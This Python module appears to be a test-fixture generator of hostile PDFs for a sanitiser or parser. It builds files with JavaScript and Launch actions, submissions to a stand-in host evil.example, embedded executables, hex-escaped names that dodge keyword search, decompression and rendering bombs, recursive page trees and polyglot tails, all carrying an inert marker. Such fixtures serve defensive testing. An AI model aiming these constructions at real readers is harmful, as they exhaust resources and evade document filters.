"""Hostile PDFs, written by hand so that they can be wrong in every way; see `hostile`."""

import io
import random
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image
from pypdf import PdfReader, PdfWriter

Chance = random.Random
MARK = b"EvilMark7"
SCRIPT = b"/S /JavaScript /JS (app.alert\\('" + MARK + b"'\\))"
ACTIONS: tuple[bytes, ...] = (
    b"<< " + SCRIPT + b" >>",
    b"<< /S /Launch /F (" + MARK + b".exe) /Win << /F (cmd.exe) /P (/c " + MARK + b") >> >>",
    b"<< /S /URI /URI (https://evil.example/" + MARK + b") >>",
    b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/" + MARK + b") >> >>",
    b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\" + MARK + b") /D [0 /Fit] >>",
    b"<< /S /ImportData /F (" + MARK + b".fdf) >>",
    b"<< /S /Rendition /R << /S /MR /C << /CT (video/mp4) /D << /F (" + MARK + b") >> >> >> >>",
    b"<< /S /GoToE /T << /R /C /N (" + MARK + b") >> >>",
    b"<< /S /Named /N /Print /Next << " + SCRIPT + b" >> >>",
)
BOX = b"/MediaBox [0 0 200 200]"
Objects = dict[int, bytes]


def stream(data: bytes, entries: bytes = b"", *, packed: bool = True) -> bytes:
    """A stream object's text."""
    if packed:
        data, entries = zlib.compress(data), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


@cache
def _spaces(size: int) -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000))
    return data + packer.flush()


def bombed(size: int, entries: bytes = b"", layers: int = 1) -> bytes:
    """A stream of `size` spaces, packed `layers` times."""
    data = _spaces(size)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    filters = b"/Filter [%s]" % (b"/FlateDecode " * layers)
    return b"<< /Length %d %s %s >>\nstream\n%s\nendstream" % (len(data), filters, entries, data)


def written(objects: Objects, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, with a table of references."""
    out = io.BytesIO(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    out.seek(0, 2)
    places = {}
    for number, text in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, text))
    start, last = out.tell(), max(objects)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1))
    for number in range(1, last + 1):
        kind = b"n" if number in places else b"f"
        out.write(b"%010d 00000 %s \n" % (places.get(number, 0), kind))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (last + 1, root, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def one_page(
    page: bytes = b"", root: bytes = b"", more: Objects | None = None, resources: bytes = b""
) -> bytes:
    """A PDF of one page; objects from 10 on are free."""
    content = b"BT /F1 20 Tf 20 100 Td (Seen) Tj ET"
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R " + BOX + b" /Contents 4 0 R /Resources << /Font "
            b"<< /F1 5 0 R >> " + resources + b" >> " + page + b" >>",
            4: stream(content),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **(more or {}),
        }
    )


@cache
def small_pdf() -> bytes:
    """A small one with a script."""
    return one_page(root=b"/OpenAction " + ACTIONS[0])


def acting(chance: Chance) -> bytes:
    """Actions wherever actions can be, of every kind."""
    one, two = chance.choice(ACTIONS), chance.choice(ACTIONS)
    kind = chance.choice((b"Link", b"Widget", b"Screen", b"FileAttachment", b"RichMedia", b"Movie"))
    note = b"<< /Type /Annot /Subtype /%s /Rect [0 0 99 99] /A 10 0 R /AA << /E %s >>" % (kind, two)
    note += b" /AP << /N 12 0 R >> /Contents (" + MARK + b") /FS 13 0 R /MK << /CA (x) >> >>"
    look = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /AF [13 0 R] /Metadata 14 0 R"
    return one_page(
        page=b"/AA << /O %s /C %s >> /Annots [11 0 R] /B [10 0 R] /AF [13 0 R]" % (one, two),
        root=b"/OpenAction 10 0 R /AA << /WC 10 0 R >> /Outlines << /First << /Title (a) /A 10 0 R"
        b" >> >> /Names << /JavaScript << /Names [(a) 10 0 R] >> /EmbeddedFiles << /Names [(e) "
        b"13 0 R] >> >> /AcroForm << /Fields [11 0 R] /XFA 15 0 R >>",
        more={
            10: one,
            11: note,
            12: stream(b"1 0 0 rg 0 0 9 9 re f", look),
            13: b"<< /Type /Filespec /F (e.exe) /UF (e.exe) /EF << /F 16 0 R >> >>",
            14: stream(b"<x:xmpmeta><script>" + MARK + b"</script>", b"/Type /Metadata"),
            15: stream(b"<xdp:xdp><script>" + MARK + b"</script></xdp:xdp>"),
            16: stream(b"MZ" + MARK, b"/Type /EmbeddedFile"),
        },
    )


def escaped(chance: Chance) -> bytes:
    """The same, with the names written so that a search does not find them."""
    made = acting(chance)
    for name in (b"JavaScript", b"JS", b"OpenAction", b"AA", b"Launch", b"EmbeddedFile", b"XFA"):
        at = chance.randrange(len(name))
        odd = name[:at] + b"#%02x" % name[at] + name[at + 1 :]
        made = made.replace(b"/" + name + b" ", b"/" + odd + b" ")
    return made  # the table of references is wrong now, too


def in_object_streams(chance: Chance) -> bytes:
    """The same, packed into a stream of objects (ISO 32000-2, 7.5.7)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(acting(chance))))
    out = io.BytesIO()
    writer.write(out)
    plain = PdfReader(io.BytesIO(out.getvalue()))
    inside, first, body = [], b"", b""
    for number in range(1, len(plain.xref[0]) + 1):
        one = plain.get_object(number)
        piece = io.BytesIO()
        if one is None or hasattr(one, "get_data"):
            continue
        one.write_to_stream(piece)
        inside.append(number)
        first += b"%d %d " % (number, len(body))
        body += piece.getvalue() + b" "
    packed = stream(first + body, b"/Type /ObjStm /N %d /First %d" % (len(inside), len(first)))
    made = out.getvalue()
    begin = made.rindex(b"xref\n", 0, made.rindex(b"startxref"))
    number = len(plain.xref[0]) + 10
    return (
        made[:begin]
        + b"%d 0 obj\n%s\nendobj\n" % (number, packed)
        + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n0\n%%%%EOF\n" % (number + 1)
    )


def locked(chance: Chance) -> bytes:
    """The same, encrypted; most of them open without a password."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(acting(chance))))
    word = "secret" if chance.random() < 0.2 else ""
    algorithm = chance.choice(("RC4-40", "RC4-128", "AES-128", "AES-256"))
    writer.encrypt(word, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def looped(chance: Chance) -> bytes:
    """References in circles, deep trees, counts that lie, pages without end."""
    kids = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    match chance.randrange(6):
        case 0:
            kids[2] = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 999999999 /Parent 2 0 R >>"
        case 1:
            for n in range(2, 3000):
                kids[n] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (
                    n + 1,
                    n - 1,
                )
            kids[3000] = b"<< /Type /Page /Parent 2999 0 R " + BOX + b" >>"
        case 2:
            many = chance.randint(1000, 200_000)
            kids[2] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (many, b"3 0 R " * many)
            kids[3] = b"<< /Type /Page /Parent 2 0 R " + BOX + b" >>"
        case 3:
            return one_page(more={4: b"<< /Length 4 0 R >>\nstream\n" + MARK + b"\nendstream"})
        case 4:
            deep = b"[" * 20_000 + b"]" * 20_000
            return one_page(page=b"/Group " + deep)
        case _:
            form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X "
            again = stream(b"/X Do /X Do", form + b"10 0 R >> >>")
            return one_page(resources=b"/XObject << /X 10 0 R >>", more={10: again})
    return written(kids)


def stream_bomb(chance: Chance) -> bytes:
    """Streams that unpack to very much: contents, profiles, pictures."""
    size = chance.choice((100, 300, 900)) * 1_000_000
    match chance.randrange(5):
        case 0:
            return one_page(more={4: bombed(size, layers=chance.choice((1, 2, 3)))})
        case 1:
            entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8"
            side = chance.choice((6000, 20_000, 60_000))
            entries = entries % (side, side) + b" /ColorSpace /DeviceGray"
            return one_page(
                resources=b"/XObject << /X 10 0 R >>",
                more={10: bombed(size, entries), 4: stream(b"200 0 0 200 0 0 cm /X Do")},
            )
        case 2:
            return one_page(
                resources=b"/ColorSpace << /C [/ICCBased 10 0 R] >>",
                more={10: bombed(size, b"/N 3"), 4: stream(b"/C cs 1 0 0 sc 0 0 99 99 re f")},
            )
        case 3:
            filters = b"/Filter [" + b"/ASCIIHexDecode " * 500 + b"]"
            return one_page(more={4: stream(b"20" * 50_000 + b">", filters, packed=False)})
        case _:
            lzw = b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * chance.randint(1000, 100_000)
            return one_page(more={4: stream(lzw, b"/Filter /LZWDecode", packed=False)})


def drawing_bomb(chance: Chance) -> bytes:
    """Pages that take for ever to draw, or that are as large as a country."""
    match chance.randrange(4):
        case 0:  # each draws the next ten times
            form = (
                b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X "
            )
            depth = chance.randint(6, 12)
            forms = {
                n: stream(b"/X Do " * 10, form + b"%d 0 R >> >>" % (n + 1))
                for n in range(10, 10 + depth)
            }
            forms[10 + depth] = stream(b"0 0 200 200 re f", form + b"5 0 R >> >>")
            forms[4] = stream(b"/X Do")
            return one_page(resources=b"/XObject << /X 10 0 R >>", more=forms)
        case 1:
            lines = b"0 0 m 200 200 l 0 200 l 200 0 l b* " * chance.randint(10_000, 400_000)
            return one_page(more={4: stream(lines)})
        case 2:
            tile = (
                b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] "
                b"/XStep 0.001 /YStep 0.001 /Resources << >>"
            )
            return one_page(
                resources=b"/Pattern << /P 10 0 R >>",
                more={
                    10: stream(b"0 0 1 1 re f", tile),
                    4: stream(b"/Pattern cs /P scn 0 0 200 200 re f"),
                },
            )
        case _:
            huge = chance.choice((b"0 0 1e9 1e9", b"0 0 0 0", b"-9e9 0 9e9 1", b"0 0 1 900000"))
            made = one_page(page=b"/UserUnit 1000000 /Rotate 13")
            return made.replace(BOX, b"/MediaBox [" + huge + b"]")


def with_pictures(chance: Chance) -> bytes:
    """Pictures and fonts in it that carry something on."""
    out = io.BytesIO()
    notes = Image.Exif()
    notes[0x010F] = MARK.decode()
    mode = chance.choice(("RGB", "L", "CMYK"))
    Image.new(mode, (60, 40), 90).save(out, "JPEG", exif=notes, comment=b"<script>" + MARK)
    space = {"RGB": b"/DeviceRGB", "L": b"/DeviceGray", "CMYK": b"/DeviceCMYK"}[mode]
    entries = b"/Type /XObject /Subtype /Image /Width 60 /Height 40 /BitsPerComponent 8 "
    jpeg = out.getvalue() + b"<html><script>" + MARK + b"</script>"
    raw = bytes(60 * 40) + MARK * 100
    kinds = {
        b"DCTDecode": jpeg,
        b"JPXDecode": b"\0\0\0\x0cjP  \r\n\x87\n" + MARK + chance.randbytes(500),
        b"JBIG2Decode": MARK + chance.randbytes(500),
        b"CCITTFaxDecode": MARK + chance.randbytes(500),
    }
    name = chance.choice(tuple(kinds))
    image = stream(
        kinds[name], entries + b"/ColorSpace " + space + b" /Filter /" + name, packed=False
    )
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 13 0 R >>"
    trailing = zlib.compress(chance.randbytes(500)) + b"<script>" + MARK + b"</script>"
    return one_page(
        resources=b"/XObject << /X 10 0 R /Y 11 0 R >> /Properties << /P 15 0 R >>",
        more={
            4: stream(
                b"q 100 0 0 100 0 0 cm /X Do Q q 9 0 0 9 0 0 cm /Y Do Q BT /F1 9 Tf (a) Tj ET"
            ),
            5: font,
            10: image,
            11: stream(raw, entries + b"/ColorSpace /DeviceGray"),
            13: b"<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 14 0 R >>",
            14: stream(trailing, b"/Filter /FlateDecode /Length1 500", packed=False),
            15: ACTIONS[0],
        },
    )


def appended(chance: Chance) -> bytes:
    """Something behind the end: another file, or an update that adds a script."""
    made = one_page()
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>\nendobj\n" % ACTIONS[0]
    start = len(made) + len(update)
    update += b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % (
        len(made),
        made.rindex(b"xref\n", 0, made.rindex(b"startxref")),
    )
    update += b"startxref\n%d\n%%%%EOF\n" % start
    tails = (update, b"<html><script>" + MARK + b"</script>", b"PK\x03\x04" + MARK, small_pdf())
    return made + chance.choice(tails)


FAMILIES: dict[str, Callable[[Chance], bytes]] = {
    "PDFs that act": acting,
    "PDFs with escaped names": escaped,
    "PDFs with packed objects": in_object_streams,
    "encrypted PDFs": locked,
    "PDFs in circles": looped,
    "PDF stream bombs": stream_bomb,
    "PDF drawing bombs": drawing_bomb,
    "PDFs with odd pictures and fonts": with_pictures,
    "PDFs with a tail": appended,
}
